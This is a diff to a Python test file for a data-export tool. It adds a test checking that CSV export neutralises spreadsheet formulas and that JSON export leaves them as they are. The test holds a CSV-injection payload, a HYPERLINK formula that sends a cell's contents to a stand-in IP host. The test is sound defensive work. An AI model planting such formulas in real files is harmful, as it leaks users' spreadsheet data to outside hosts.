@@ -3,8 +3,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -92,6 +95,18 @@ def test_export_into_a_closed_pipe_leaves_no_traceback(tmp_path: Path) -> None:
         error = process.stderr.read().decode()
     assert "Traceback" not in error
     assert "Exception ignored" not in error
+
+
+def test_a_spreadsheet_finds_no_formula_in_csv(tmp_path: Path) -> None:
+    data = synthetic.dataset(boots=2)
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
+    cells = data.cells.assign(gate=formula, idle=-1.5)
+    folder = synthetic.write(replace(data, cells=cells), tmp_path / "data")
+    rows = list(csv.DictReader(io.StringIO(iolab("export", folder).out)))
+    assert {row["gate"] for row in rows} == {f"'{formula}"}
+    assert {row["idle"] for row in rows} == {"-1.5"}
+    # What is no CSV has the text as it is.
+    assert {cell["gate"] for cell in json.loads(iolab("export", folder, "--json").out)} == {formula}
 
 
 def test_export_prints_cells_as_json_or_csv(tmp_path: Path) -> None:
